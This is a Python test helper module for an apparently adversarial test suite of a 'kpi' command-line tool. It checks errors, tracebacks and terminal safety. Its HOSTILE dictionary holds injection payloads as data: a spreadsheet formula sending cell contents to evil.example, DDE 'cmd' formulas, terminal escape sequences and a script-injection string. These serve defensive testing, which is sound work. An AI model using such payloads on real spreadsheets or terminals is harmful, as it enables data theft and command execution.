"""Shared helpers of the adversarial corpus: run the real ``kpi`` command, check its output.

Generic on purpose, so that every file of the corpus uses the same rules:

- :func:`run_kpi` runs ``python -m kpi ARGS`` in a subprocess and returns ``(rc, stdout, stderr)``;
- :func:`assert_no_traceback` holds for every run, successful or not;
- :func:`assert_one_error` checks an error: a non-zero exit and exactly one line on standard
  error, ``kpi COMMAND: error: ...``, naming the problem;
- :func:`assert_terminal_safe` checks that no control character reaches a terminal;
- :data:`HOSTILE` holds hostile text values and :func:`hostile_dataset` a tiny dataset whose
  text columns hold them.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable, Mapping
from datetime import timedelta
from pathlib import Path
from typing import NamedTuple

import polars as pl
import pytest

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "data" / "samples"

#: Hostile text values: spreadsheet formulas, terminal escapes, HTML/JS, very long, NUL, C1,
#: bidirectional overrides, newlines.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "escape": "Bil\x1b[2J\x1b[31mling",
    "osc": "\x1b]0;pwned\x07title",
    "script": "</script><script>alert(1)</script>",
    "long": "L" * 5000,
    "nul": "nul\x00byte",
    "c1": "csi\x9b31mred",
    "bidi": "abc\u202edcba",
    "newline": "two\nlines\rback",
}

#: Characters that must never reach a terminal (newline and tab are layout, not control).
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


class Result(NamedTuple):
    """What a run left: its exit status and both output streams."""

    rc: int
    stdout: str
    stderr: str


def run_kpi(
    *args: str | os.PathLike[str],
    cwd: str | os.PathLike[str] | None = None,
    env: Mapping[str, str] | None = None,
    timeout: float = 120,
    preexec_fn: Callable[[], None] | None = None,
    stdin: str | None = None,
) -> Result:
    """Run ``python -m kpi ARGS`` (this checkout first on ``PYTHONPATH``); never raises.

    ``env`` is added to the current environment, from which ``KPI_DEBUG`` is removed (errors
    are one line unless a test asks for the traceback).
    """
    full = {k: v for k, v in os.environ.items() if k != "KPI_DEBUG"}
    full["PYTHONPATH"] = os.pathsep.join(
        [str(ROOT), *filter(None, [os.environ.get("PYTHONPATH")])]
    )
    full.update(env or {})
    proc = subprocess.run(
        [sys.executable, "-m", "kpi", *map(os.fspath, args)],
        capture_output=True,
        text=True,
        errors="backslashreplace",
        cwd=cwd,
        env=full,
        timeout=timeout,
        check=False,
        preexec_fn=preexec_fn,
        input=stdin,
    )
    return Result(proc.returncode, proc.stdout, proc.stderr)


def assert_no_traceback(*texts: str) -> None:
    """No Python traceback, and no internal error, in any of ``texts``."""
    for text in texts:
        assert "Traceback (most recent call last)" not in text, text
        assert "internal error" not in text, text


def assert_terminal_safe(text: str) -> None:
    """No control character (ESC, NUL, BEL, C1, CR...) in ``text``; newlines and tabs allowed."""
    found = CONTROL.search(text)
    assert found is None, f"control character {found.group()!r} in output: {text[:300]!r}"


def assert_one_error(result: Result, command: str, *fragments: str, rc: int | None = None) -> str:
    """An error run: non-zero exit (``rc`` if given), nothing on standard output, exactly one
    line on standard error, ``kpi COMMAND: error: ...``, containing every fragment.

    Returns the line.
    """
    assert_no_traceback(result.stdout, result.stderr)
    assert result.rc != 0, result
    if rc is not None:
        assert result.rc == rc, result
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    line = lines[0]
    assert line.startswith(f"kpi {command}: error: " if command else "kpi: error: "), line
    for fragment in fragments:
        assert fragment in line, (fragment, line)
    assert_terminal_safe(result.stderr)
    return line


def hostile_frame(frame: pl.DataFrame, mapping: Mapping[str, str]) -> pl.DataFrame:
    """``frame`` with every text value found in ``mapping`` replaced (ids left alone)."""
    text = [c for c, t in frame.schema.items() if t == pl.String and not c.endswith("_id")]
    return frame.with_columns(pl.col(c).replace(dict(mapping)) for c in text)


@pytest.fixture(scope="session")
def hostile_dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny test dataset over two months, its teams, queues, topics and site renamed to
    hostile values (see :data:`HOSTILE`); a directory as written by ``kpi.save``."""
    sys.path.insert(0, str(ROOT / "tests"))
    from fixtures_small import small_dataset

    from kpi import save
    from kpi.data import Dataset

    ds = small_dataset()
    mapping = {
        "A": HOSTILE["formula"],
        "B": HOSTILE["escape"],
        "sales": HOSTILE["script"],
        "help": HOSTILE["at"],
        "billing": HOSTILE["nul"],
        "move": HOSTILE["long"],
        "S": HOSTILE["c1"],
        "T": HOSTILE["bidi"],
        "x": HOSTILE["newline"],
        "y": HOSTILE["tab_formula"],
    }
    tables = {}
    for name in ds.tables:
        frame = hostile_frame(ds[name].collect(), mapping)
        if name == "contacts":  # a second month, so that explain has two periods
            times = [c for c, t in frame.schema.items() if isinstance(t, pl.Datetime)]
            february = frame.with_columns(
                pl.col("contact_id") + "-feb",
                *(pl.col(c) + timedelta(days=35) for c in times),
            )
            frame = pl.concat(
                [frame, february, february.head(3).with_columns(pl.col("contact_id") + "-more")]
            )
        tables[name] = frame
    path = tmp_path_factory.mktemp("hostile")
    save(Dataset(tables, tz=ds.tz, meta=ds.meta), path)
    return path
